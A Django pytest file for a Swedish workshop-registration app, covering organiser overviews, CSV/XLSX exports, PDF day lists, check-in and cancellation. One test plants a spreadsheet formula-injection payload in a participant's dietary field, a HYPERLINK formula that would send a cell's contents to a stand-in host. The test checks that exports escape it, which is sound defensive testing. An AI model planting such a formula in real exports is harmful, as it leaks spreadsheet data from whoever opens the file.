import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook
from pypdf import PdfReader

from larlabb.actors.models import Organisation
from larlabb.registrations.actions import (
    Answers,
    RegistrationError,
    do_cancel,
    do_check_in,
    do_register,
    do_self_check_in,
)
from larlabb.registrations.models import Attendance, Registration
from tests.factories import OrganisationFactory, UserFactory

pytestmark = pytest.mark.django_db
ANSWERS = Answers(
    title="RUS-samordnare", knowledge="both", dietary_needs="glutenfritt", travel_acknowledged=True
)


@pytest.fixture
def registered(lab, workshops, skane_people, region_skane):
    return [
        do_register(actor=p, lab=lab, organisation=region_skane, answers=ANSWERS)
        for p in skane_people
    ]


def overview_url(lab) -> str:
    return reverse("registrations:overview", kwargs={"slug": lab.slug})


def test_the_overview_counts_by_status_network_kind_and_organisation(
    client, lab, registered, olle_organiser, rus_network
):
    missing = OrganisationFactory(name="Region Gotland", county_code="09")
    rus_network.members.add(missing)
    do_cancel(actor=registered[0].person, registration=registered[0])
    client.force_login(olle_organiser)

    response = client.get(overview_url(lab))
    page = response.content.decode()

    assert response.context["overview"].by_status == {"cancelled": 1, "confirmed": 2}
    assert response.context["overview"].by_network == {"RUS-nätverket": 2}
    assert [org.name for org in response.context["overview"].missing] == ["Region Gotland"]
    assert "Region Gotland" in page  # invited, nobody registered
    assert "2 / 2" in page  # Region Skåne's places (the third was promoted)
    assert "RUS-nätverket" in page
    response = client.get(overview_url(lab) + "?status=cancelled")
    assert "Skåning 1" in response.content.decode()
    assert "Skåning 2" not in response.content.decode()
    assert "Skåning 3" in client.get(overview_url(lab) + "?q=ning 3").content.decode()


@pytest.mark.parametrize("who", ["sanna_participant", "other_organiser"])
def test_only_the_labs_organisers_see_the_overview_and_exports(client, lab, who, request):
    client.force_login(request.getfixturevalue(who))
    assert client.get(overview_url(lab)).status_code == 403
    for fmt in ["csv", "xlsx"]:
        url = reverse("registrations:overview-export", kwargs={"slug": lab.slug, "fmt": fmt})
        assert client.get(url).status_code == 403


def test_the_exports_read_back(client, lab, registered, olle_organiser):
    client.force_login(olle_organiser)
    response = client.get(
        reverse("registrations:overview-export", kwargs={"slug": lab.slug, "fmt": "csv"})
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:3] == ["Namn", "E-post", "Organisation"]
    assert {row[0] for row in rows[1:]} == {"Skåning 1", "Skåning 2", "Skåning 3"}
    assert {row[5] for row in rows[1:]} == {"Anmäld", "På väntelistan"}

    response = client.get(
        reverse("registrations:overview-export", kwargs={"slug": lab.slug, "fmt": "xlsx"})
        + "?kost=1"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = list(sheet.iter_rows(values_only=True))
    assert len(values) == 4
    assert values[1][2] == "Region Skåne"
    assert values[1][7] == "glutenfritt"


def test_what_a_participant_typed_never_becomes_a_formula_in_an_export(
    client, lab, workshops, sanna_participant, region_skane, olle_organiser
):
    formula = '=HYPERLINK("http://example.com/?"&A1;"Klicka")'
    answers = Answers(
        title="+RUS", knowledge="both", dietary_needs=formula, travel_acknowledged=True
    )
    do_register(actor=sanna_participant, lab=lab, organisation=region_skane, answers=answers)
    client.force_login(olle_organiser)

    def export(fmt: str) -> bytes:
        url = reverse("registrations:overview-export", kwargs={"slug": lab.slug, "fmt": fmt})
        return client.get(url + "?kost=1").content

    row = list(csv.reader(io.StringIO(export("csv").decode("utf-8-sig")), delimiter=";"))[1]
    assert row[4] == "'+RUS"
    assert row[7] == "'" + formula
    cell = load_workbook(io.BytesIO(export("xlsx"))).active["H2"]
    assert (cell.value, cell.data_type) == (formula, "s")


def make_registrations(lab, count: int, start: int = 0) -> None:
    """``count`` confirmed registrations, each of its own organisation (bulk, for speed)."""
    organisations = Organisation.objects.bulk_create(
        [Organisation(name=f"Org {n}", kind="region") for n in range(start, start + count)]
    )
    network = lab.invited_networks.first()
    network.members.add(*organisations)
    people = [
        UserFactory.build(email=f"p{n}@example.org", name=f"P {n}", organisation=org)
        for n, org in enumerate(organisations, start=start)
    ]
    for person in people:
        person.set_unusable_password()
    people = type(people[0]).objects.bulk_create(people)
    Registration.objects.bulk_create(
        [
            Registration(
                lab=lab, person=person, organisation=person.organisation, status="confirmed"
            )
            for person in people
        ]
    )


def test_the_overviews_query_count_is_the_same_for_10_and_1000_registrations(
    client, lab, workshops, olle_organiser
):
    client.force_login(olle_organiser)
    make_registrations(lab, 10)
    client.get(overview_url(lab))
    with CaptureQueriesContext(connection) as small:
        assert client.get(overview_url(lab)).status_code == 200
    make_registrations(lab, 990, start=10)
    with CaptureQueriesContext(connection) as large:
        page = client.get(overview_url(lab)).content.decode()
    assert "P 989" in page
    assert len(large) == len(small)


def test_the_day_list_has_names_organisations_titles_and_diets_and_a_pdf(
    client, lab, workshops, registered, olle_organiser
):
    client.force_login(olle_organiser)
    url = reverse("registrations:day-list", kwargs={"slug": lab.slug, "number": 1})
    page = client.get(url).content.decode()
    assert "Skåning 1" in page
    assert "glutenfritt" in page
    assert "Skåning 3" not in page  # on the waiting list

    pdf = client.get(reverse("registrations:day-list-pdf", kwargs={"slug": lab.slug, "number": 1}))
    text = " ".join(PdfReader(io.BytesIO(pdf.content)).pages[0].extract_text().split())
    assert "Deltagarlista för dagen" in text
    assert "Skåning 2" in text
    assert "glutenfritt" in text
    assert "Region Skåne" in text


def test_participants_cannot_see_the_day_list(client, lab, workshops, registered):
    client.force_login(registered[0].person)
    assert (
        client.get(
            reverse("registrations:day-list", kwargs={"slug": lab.slug, "number": 1})
        ).status_code
        == 403
    )


def test_a_facilitator_checks_people_in_once(client, lab, workshops, registered, olle_organiser):
    client.force_login(olle_organiser)
    url = reverse("registrations:check-in", kwargs={"slug": lab.slug, "number": 1})
    assert "Skåning 1" in client.get(url + "?q=skåning 1").content.decode()

    client.post(url, {"registration": registered[0].pk})
    client.post(url, {"registration": registered[0].pk})

    assert Attendance.objects.filter(registration=registered[0]).count() == 1
    assert "Närvarande: 1 av 2" in client.get(url).content.decode()
    assert "Närvaro" in client.get(overview_url(lab)).content.decode()


def test_a_leader_may_check_in_but_a_participant_may_not(lab, workshops, registered):
    leader = UserFactory(role="facilitator")
    lab.leaders.add(leader)
    do_check_in(actor=leader, workshop=workshops[0], registration=registered[1])
    with pytest.raises(RegistrationError):
        do_check_in(actor=registered[0].person, workshop=workshops[0], registration=registered[1])


def on_the_day(workshop) -> None:
    """The workshop is today, as self check-in needs."""
    now = timezone.localtime()
    workshop.starts_at = now.replace(hour=0, minute=30)
    workshop.ends_at = now.replace(hour=23, minute=30)
    workshop.save()


def test_participants_check_themselves_in_with_the_rooms_code(client, lab, workshops, registered):
    person = registered[0].person
    client.force_login(person)
    url = reverse("registrations:self-check-in", kwargs={"slug": lab.slug, "number": 1})
    response = client.post(url, {"code": workshops[0].checkin_code})
    assert "Incheckningen öppnar på workshopdagen." in response.content.decode()
    on_the_day(workshops[0])

    response = client.post(url, {"code": "FEL123"})
    assert "Koden stämmer inte" in response.content.decode()
    assert not Attendance.objects.exists()

    response = client.post(url, {"code": workshops[0].checkin_code.lower()})
    assert "Du är incheckad" in response.content.decode()
    assert Attendance.objects.get().registration == registered[0]


def test_someone_on_the_waiting_list_cannot_check_in(lab, workshops, registered):
    on_the_day(workshops[0])
    with pytest.raises(RegistrationError, match="inte anmäld"):
        do_self_check_in(
            actor=registered[2].person, workshop=workshops[0], code=workshops[0].checkin_code
        )


def test_an_organiser_avanmaler_a_person_only_after_the_question(
    client, lab, registered, olle_organiser
):
    registration = registered[0]
    client.force_login(olle_organiser)
    url = reverse("registrations:cancel", kwargs={"pk": registration.pk})

    page = client.get(overview_url(lab)).content.decode()
    assert f'<a href="{url}">Avanmäl Skåning 1</a>' in page  # a link to the question
    assert "Ställ in" not in page
    question = client.get(url).content.decode()
    assert "Vill du avanmäla Skåning 1 från Lärlabb: Testlabbet?" in question
    assert f'href="{overview_url(lab)}">Nej, gå tillbaka' in question
    registration.refresh_from_db()
    assert registration.status == "confirmed"  # a GET cancels nothing

    response = client.post(url)

    assert response["Location"] == overview_url(lab)
    registration.refresh_from_db()
    assert registration.status == "cancelled"
